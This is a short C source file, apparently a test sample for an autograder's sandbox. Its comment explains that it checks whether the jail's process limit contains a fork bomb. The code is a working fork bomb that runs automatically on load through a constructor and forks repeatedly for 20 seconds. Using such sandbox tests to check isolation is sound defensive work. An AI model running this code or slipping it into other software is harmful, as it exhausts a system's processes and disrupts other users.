/* Attack (processes): a fork bomb. Every process forks for 20 s, so that no process is left
 * for the grader: without the jail (in make autograder-check's cgroup, which bounds it) the
 * grader's own forks fail ("Resource temporarily unavailable") and the next exercises lose
 * their tests. In the jail the user's process limit stops it, and the warden kills what it
 * made after the test. */
#include <time.h>

#include "common.h"

__attribute__((constructor)) static void attack(void)
{
    if (!detached())
        return;
    time_t end = time(NULL) + 20;
    while (time(NULL) < end)
        fork();
    _exit(0);
}
